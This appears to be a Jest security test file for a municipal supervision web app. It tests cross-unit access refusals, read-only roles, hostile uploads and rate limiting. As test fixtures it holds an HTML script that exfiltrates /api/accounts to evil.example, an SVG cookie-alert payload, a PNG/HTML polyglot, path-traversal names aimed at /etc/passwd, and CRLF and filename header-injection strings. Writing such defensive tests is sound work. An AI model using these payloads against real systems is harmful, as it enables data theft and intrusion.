import { randomBytes, randomUUID } from 'node:crypto';
import { readdirSync } from 'node:fs';
import path from 'node:path';
import { ACCESS_RULES, type AccessRule } from '../src/auth/access-rules.js';
import { AccountService } from '../src/auth/account.service.js';
import type { Role } from '../src/auth/auth-user.js';
import { TokenService } from '../src/auth/token.service.js';
import { LaggingService } from '../src/supervision/ladder/lagging.service.js';
import { fillPath } from './support/route-inputs.js';
import { deploySupervision } from './support/supervision.js';
import { agentWith, emptyDir, startTestApp, type TestApp } from './support/test-app.js';
import { problemRow, problemSheet, seedUnits, importFile } from './support/xlsx.js';

const MONDAY = Date.parse('2026-03-02T01:00:00Z');
const UPLOADS_PER_MIN = 30;
const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
const PNG = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(64, 7)]);
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);
const EXE = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00', 'latin1'), Buffer.alloc(100)]);
const HTML = Buffer.from(
  '<html><body><script>fetch("/api/accounts").then(r=>r.text()).then(t=>new Image().src="//evil.example/?"+t)</script></body></html>',
);
const SVG = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>alert(1)</script></svg>',
);
/** A real PNG signature with a page after it: accepted as an image, and must never be rendered as a page. */
const POLYGLOT = Buffer.concat([PNG, Buffer.from('<html><script>alert(document.domain)</script></html>')]);

const REFUSED_403 = { statusCode: 403, error: 'Forbidden', message: '当前账号无权进行此操作' };

/**
 * A unit account against another unit's records, leaders against writes, hostile file names and contents, and
 * the upload rate limit. Unit A is 市环保局 (HBJ, leads PA-1); unit B is 市水利局 (SLJ, leads PB-1).
 */
describe('scoping, files and upload limits under hostile use', () => {
  let t: TestApp;
  let filesDir: string;
  const A: Record<string, string> = {};
  const B: Record<string, string> = {};

  async function newAgent(role: Role, unitCode?: string) {
    const username = `h-${role}-${randomBytes(3).toString('hex')}`;
    const view = await t.app
      .get(AccountService)
      .create(
        { username, password: randomBytes(18).toString('base64url'), role, unitCode },
        { actor: 'system', actorName: 'test' },
      );
    const user = { accountId: view.id, username, role, unitCode: view.unitCode, personId: null, personName: null };
    const token = () => t.app.get(TokenService).issue(user, 0);
    return agentWith(t.app.getHttpServer(), () => `Bearer ${token()}`);
  }
  const evidence = (agent: any, problem: string, content: Buffer, filename: string, contentType = 'application/pdf') =>
    agent.post(`/api/problems/${problem}/files`).attach('file', content, { filename, contentType });
  const filesOf = async (problemId: string) =>
    (await t.db.query(`SELECT id, name FROM evidence_file WHERE problem_id = $1 ORDER BY created_at`, [problemId])) as {
      id: string;
      name: string;
    }[];

  beforeAll(async () => {
    filesDir = path.join(emptyDir(), 'evidence');
    t = await startTestApp({ DUBAN_FILES_DIR: filesDir, DUBAN_UPLOAD_RATE_PER_MIN: String(UPLOADS_PER_MIN) });
    t.clock.pin(MONDAY);
    await deploySupervision(t);
    await seedUnits(t);
    const rows = [
      problemRow(1, { 编号: 'PA-1', 牵头单位: '市环保局', 责任单位: '市城管局' }),
      problemRow(2, { 编号: 'PB-1', 牵头单位: '市水利局', 责任单位: null }),
    ];
    const created = (await importFile(t, await problemSheet(rows))).created as { id: string; code: string }[];
    A.problem = created.find((p) => p.code === 'PA-1')!.id;
    B.problem = created.find((p) => p.code === 'PB-1')!.id;
    for (const [x, code] of [
      [A, 'PA-1'],
      [B, 'PB-1'],
    ] as const) {
      x.code = code;
      x.task = (
        await t.db.query(`SELECT id FROM engine_task WHERE business_key = $1 AND activity_id = 'sign'`, [code])
      )[0].id;
      x.file = (await evidence(t.http, x.problem, PDF, `${code}.pdf`).expect(201)).body.id;
      x.action = (await t.app
        .get(LaggingService)
        .markLagging(x.problem, { reason: '月度进展未报送', period: '2026-02' }))!.id;
    }
    await t.http.post('/api/persons').send({ name: '李四', unitCode: 'SLJ', role: 'handler' }).expect(201);
  });
  afterAll(() => t.close());

  /** A body a caller would send to this route if the guard let it through, so a leak would show as a change. */
  function bodyFor(rule: AccessRule): Record<string, unknown> {
    if (rule.path.endsWith('/extension')) return { date: '2026-12-31', reason: '设备采购周期延长' };
    if (rule.path.endsWith('/handover')) return { to: 'nobody' };
    if (rule.path.startsWith('/api/monthly-reports')) return { progress: '已完成', percent: 100 };
    return {};
  }

  /** The rule's path with `id` for the scoped parameter (and the other ids of the same unit). */
  function urlFor(rule: AccessRule, of: Record<string, string>, id: string): string {
    return fillPath(rule.path, (name) => (name === 'fileId' ? of.file : id));
  }

  function resourceOf(rule: AccessRule, of: Record<string, string>): string {
    const scope = rule.scope as { resource: 'problem' | 'task' | 'file' | 'action' };
    return of[scope.resource];
  }

  describe("a unit account and another unit's records", () => {
    const unitRules = ACCESS_RULES.filter(
      (r) => r.allow !== 'public' && r.allow.includes('unit') && r.scope && 'resource' in r.scope,
    );

    it("answers every verb it may call on another unit's record, and on one that does not exist, with the same 403", async () => {
      const unitA = await t.as('unit', 'HBJ');
      expect(unitRules.length).toBeGreaterThan(12);
      const seen: string[] = [];
      for (const rule of unitRules) {
        const method = rule.method.toLowerCase();
        const call = (url: string) =>
          method === 'post' && rule.path.endsWith('/files')
            ? evidence(unitA, url.split('/')[3], PDF, 'x.pdf')
            : (unitA as any)[method](url).send(bodyFor(rule));
        const theirs = await call(urlFor(rule, B, resourceOf(rule, B)));
        const none = await call(urlFor(rule, { file: randomUUID() }, randomUUID()));
        expect([rule.path, theirs.status, theirs.body]).toEqual([rule.path, 403, REFUSED_403]);
        // The policy: a scoped account cannot tell another unit's record from one that does not exist.
        expect([rule.path, none.status, none.body]).toEqual([rule.path, 403, REFUSED_403]);
        seen.push(`${rule.method} ${rule.path}`);
      }
      // By code too, and with a made-up code.
      for (const code of ['PB-1', 'PZ-404'])
        expect((await unitA.get(`/api/problems/${code}`).expect(403)).body).toEqual(REFUSED_403);
      expect(seen).toEqual(
        expect.arrayContaining([
          'POST /api/problems/:id/files',
          'GET /api/files/:id',
          'POST /api/tasks/:id/complete',
          'POST /api/problems/:id/extension',
          'GET /api/supervision/actions/:id.docx',
        ]),
      );
      // The office sees the difference: a 404 for what does not exist.
      await t.http.get(`/api/problems/${randomUUID()}`).expect(404);
      await t.http.get(`/api/files/${randomUUID()}`).expect(404);
    });

    it("stored nothing and changed nothing of unit B's, and wrote each refusal to the trail", async () => {
      expect((await filesOf(B.problem)).map((f) => f.id)).toEqual([B.file]);
      const [task] = await t.db.query(`SELECT assignee FROM engine_task WHERE id = $1`, [B.task]);
      expect(task).toEqual({ assignee: null });
      expect(await t.db.query(`SELECT id FROM engine_instance WHERE definition_key = 'extension'`)).toEqual([]);
      const refusals = (await t.http.get('/api/audit').query({ action: 'access.refused', pageSize: 200 }).expect(200))
        .body.items;
      expect(refusals.length).toBeGreaterThanOrEqual(unitRules.length * 2);
    });

    it('reads a file of another problem through its own problem as not found, exactly like a file that does not exist', async () => {
      const unitA = await t.as('unit', 'HBJ');
      const other = await unitA.get(`/api/problems/${A.problem}/files/${B.file}`).expect(404);
      const none = await unitA.get(`/api/problems/${A.problem}/files/${randomUUID()}`).expect(404);
      expect(Object.keys(other.body).sort()).toEqual(Object.keys(none.body).sort());
      expect(other.text).not.toContain('PB-1');
      await unitA.get(`/api/problems/${A.problem}/files/${A.file}`).expect(200);
    });

    it('lists only its own unit whatever unit a filter names', async () => {
      const unitA = await t.as('unit', 'HBJ');
      for (const url of [
        '/api/problems?unit=SLJ',
        '/api/supervision/actions?unit=SLJ',
        '/api/persons?unit=SLJ',
        '/api/inbox?unit=SLJ',
        `/api/supervision/actions?problemId=${B.problem}`,
        '/api/problems?q=PB-1',
      ]) {
        const res = await unitA.get(url);
        expect([url, res.status]).toEqual([url, 200]);
        for (const secret of ['PB-1', B.problem, B.action, '李四'])
          expect([url, res.text.includes(secret)]).toEqual([url, false]);
      }
      const mine = await unitA.get('/api/supervision/actions?unit=SLJ').expect(200);
      expect(mine.body.items.map((a: { id: string }) => a.id)).toEqual([A.action]);
    });
  });

  describe('leaders and inspectors read everything and change nothing', () => {
    it('refuses every write route to a leader and an inspector (403), except marking their own notifications read and renewing their own session', async () => {
      const own = ['/api/notify/mine/:id/read', '/api/auth/refresh'];
      const writes = ACCESS_RULES.filter((r) => r.method !== 'GET' && r.allow !== 'public' && !own.includes(r.path));
      expect(writes.length).toBeGreaterThan(20);
      for (const role of ['leader', 'inspector'] as const) {
        const agent = await t.as(role);
        for (const rule of writes) {
          const method = rule.method === '*' ? 'post' : rule.method.toLowerCase();
          const url = fillPath(
            rule.path
              .replace('/api/admin/clock/**', '/api/admin/clock/pin')
              .replace('/engine-rest/**', '/engine-rest/message'),
            (name) =>
              name === 'fileId'
                ? B.file
                : name === 'month'
                  ? '2026-02'
                  : name === 'year'
                    ? '2026'
                    : name === 'code'
                      ? 'PM25'
                      : rule.scope && 'resource' in rule.scope
                        ? resourceOf(rule, B)
                        : B.action,
          );
          const res = await (agent as any)[method](url).send(bodyFor(rule));
          expect([role, rule.method, rule.path, res.status]).toEqual([role, rule.method, rule.path, 403]);
        }
        // … and read what the office reads.
        await agent.get(`/api/problems/${B.problem}`).expect(200);
        await agent.get(`/api/problems/${B.problem}/files`).expect(200);
        await agent.get(`/api/files/${B.file}`).expect(200);
        await agent.get('/api/supervision/actions').expect(200);
      }
      expect((await filesOf(B.problem)).map((f) => f.id)).toEqual([B.file]);
      expect((await t.db.query(`SELECT assignee FROM engine_task WHERE id = $1`, [B.task]))[0].assignee).toBeNull();
      expect((await t.http.get('/api/supervision/settings').expect(200)).body.remindBefore).toBe(5);
    });
  });

  describe('hostile file names and contents', () => {
    let office: any;
    beforeAll(async () => {
      office = await newAgent('office');
    });

    const NAMES: [string, string][] = [
      ['../../etc/passwd', 'passwd'],
      ['..\\..\\windows\\win.ini', 'win.ini'],
      ['/etc/shadow.pdf', 'shadow.pdf'],
      ['C:\\Windows\\System32\\drivers\\etc\\hosts.pdf', 'hosts.pdf'],
      ['....//....//evil.pdf', 'evil.pdf'],
      ['.htaccess', 'htaccess'],
      ['invoice\u202Efdp.exe', 'invoicefdp.exe'], // right-to-left override: shows as "invoiceexe.pdf"
      ['\u2066evil\u2069.pdf', 'evil.pdf'],
      ['a\r\nSet-Cookie: sid=1.pdf', 'aSet-Cookie: sid=1.pdf'],
      ['"; filename="evil.exe', '"; filename="evil.exe'],
      [`${'长'.repeat(400)}.pdf`, `${'长'.repeat(196)}.pdf`],
    ];

    it('keeps only a clean last segment of the name, stores the bytes under a generated id, and serves it as a safe attachment', async () => {
      for (const [raw, stored] of NAMES) {
        const up = await evidence(office, A.problem, PDF, raw);
        expect([raw, up.status]).toEqual([raw, 201]);
        expect([raw, up.body.name]).toEqual([raw, stored]);
        expect(up.body.name).not.toMatch(/[/\\\u0000-\u001f\u202a-\u202e\u2066-\u2069]/);
        expect([...up.body.name].length).toBeLessThanOrEqual(200);

        const down = await t.http.get(`/api/files/${up.body.id}`).expect(200);
        const cd = down.headers['content-disposition'];
        // attachment; an ASCII fallback without quotes or backslashes; the real name percent-encoded (RFC 5987).
        expect([raw, cd]).toEqual([
          raw,
          expect.stringMatching(
            /^attachment; filename="[\x20-\x21\x23-\x5b\x5d-\x7e]*"; filename\*=UTF-8''[A-Za-z0-9%._~!-]*$/,
          ),
        ]);
        expect(decodeURIComponent(cd.split("UTF-8''")[1])).toBe(stored);
        expect(down.headers['set-cookie']).toBeUndefined();
        expect(down.headers['content-type']).toBe('application/pdf');
      }
      // Only generated ids on disk, all inside the files directory.
      const onDisk = readdirSync(filesDir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile());
      for (const f of onDisk) expect(f.name).toMatch(/^[0-9a-f-]{36}$/);
      expect(onDisk.length).toBe((await t.db.query(`SELECT count(*)::int AS n FROM evidence_file`))[0].n);
    });

    it('takes a NUL character in a file name or a note without storing it or failing', async () => {
      const up = await evidence(office, A.problem, PDF, 'a\u0000b.pdf');
      expect(up.status).toBeLessThan(500);
      if (up.status === 201) expect(up.body.name).not.toContain('\u0000');
      const note = await office
        .post(`/api/problems/${A.problem}/files`)
        .field('note', 'x\u0000y')
        .attach('file', PDF, { filename: 'n.pdf', contentType: 'application/pdf' });
      expect([400, 422]).toContain(note.status);
      expect(note.text).not.toMatch(/invalid byte sequence|QueryFailedError/);
    });

    it('refuses executables, pages and SVG whatever type and name they claim (415), and stores none of them', async () => {
      const before = (await filesOf(A.problem)).length;
      const lies: [Buffer, string, string, string][] = [
        [ELF, 'scan.pdf', 'application/pdf', 'elf'],
        [EXE, 'photo.png', 'image/png', 'exe'],
        [HTML, 'photo.png', 'image/png', 'html'],
        [HTML, 'report.pdf', 'application/pdf', 'html'],
        [SVG, 'chart.png', 'image/png', 'svg'],
        [SVG, 'chart.svg', 'image/svg+xml', 'svg'],
      ];
      for (const [content, name, type, detected] of lies) {
        const res = await evidence(office, A.problem, content, name, type);
        expect([name, detected, res.status, res.body.detectedType]).toEqual([name, detected, 415, detected]);
      }
      expect((await filesOf(A.problem)).length).toBe(before);
    });

    it('serves an image that hides a page as an image: attachment, nosniff, sandboxed, never as HTML', async () => {
      const up = (await evidence(office, A.problem, POLYGLOT, 'photo.html', 'text/html').expect(201)).body;
      expect(up).toMatchObject({ type: 'png', contentType: 'image/png', name: 'photo.html' });
      const res = await t.http.get(`/api/files/${up.id}`).expect(200);
      expect(res.headers['content-type']).toBe('image/png');
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(res.headers['content-disposition']).toMatch(/^attachment;/);
      expect(res.headers['content-security-policy']).toMatch(/sandbox/);
      expect(res.headers['content-security-policy']).toMatch(/default-src 'none'/);
    });

    it('treats ids that look like paths as ids: not found, never a file outside the store', async () => {
      for (const id of ['..%2F..%2Fetc%2Fpasswd', '..%2F' + A.file, '%2e%2e', A.file + '%2F..', `${A.file}.pdf`]) {
        const res = await t.http.get(`/api/files/${id}`);
        expect([id, res.status]).toEqual([id, 404]);
        const own = await t.http.get(`/api/problems/${A.problem}/files/${id}`);
        expect([id, own.status]).toEqual([id, 404]);
      }
      await t.http.get('/api/files/../../../etc/passwd').expect(404);
      const unitA = await t.as('unit', 'HBJ');
      await unitA.get('/api/files/..%2F..%2Fetc%2Fpasswd').expect(403);
    });
  });

  describe('upload rate limit', () => {
    it(`allows ${UPLOADS_PER_MIN} uploads a minute per account (files and imports together), then 429 with Retry-After, storing nothing`, async () => {
      const hasty = await newAgent('office');
      const before = (await filesOf(B.problem)).length;
      for (let i = 0; i < UPLOADS_PER_MIN - 1; i++) await evidence(hasty, B.problem, PDF, `第${i}张.pdf`).expect(201);
      // A refused import counts too: the upload was made.
      await hasty
        .post('/api/problems/import')
        .attach('file', Buffer.from('not a workbook'), 'problems.xlsx')
        .expect(422);

      const limited = await evidence(hasty, B.problem, PDF, 'one-more.pdf').expect(429);
      expect(limited.body).toEqual({
        statusCode: 429,
        error: 'TOO_MANY_REQUESTS',
        message: expect.stringContaining(`上传超过 ${UPLOADS_PER_MIN} 次`),
        retryAfterSeconds: expect.any(Number),
        limit: UPLOADS_PER_MIN,
      });
      const wait = Number(limited.headers['retry-after']);
      expect(wait).toBe(limited.body.retryAfterSeconds);
      expect(wait).toBeGreaterThanOrEqual(1);
      expect(wait).toBeLessThanOrEqual(60);
      await hasty
        .post('/api/problems/import')
        .attach('file', await problemSheet([problemRow(9, { 编号: 'RATE-1' })]), 'problems.xlsx')
        .expect(429);
      expect((await filesOf(B.problem)).length).toBe(before + UPLOADS_PER_MIN - 1);
      expect((await t.db.query(`SELECT 1 FROM problem WHERE code = 'RATE-1'`)).length).toBe(0);

      // Reading goes on; another account uploads at once.
      await hasty.get(`/api/problems/${B.problem}/files`).expect(200);
      await evidence(await newAgent('office'), B.problem, PDF, 'calm.pdf').expect(201);
      const unitB = await newAgent('unit', 'SLJ');
      await evidence(unitB, B.problem, PDF, 'unit.pdf').expect(201);
    });

    it("does not count a call the access rules refuse: another unit's problem", async () => {
      const unitA = await newAgent('unit', 'HBJ');
      for (let i = 0; i < UPLOADS_PER_MIN + 5; i++) await evidence(unitA, B.problem, PDF, 'x.pdf').expect(403);
      await evidence(unitA, A.problem, PDF, 'own.pdf').expect(201);
    });
  });
});
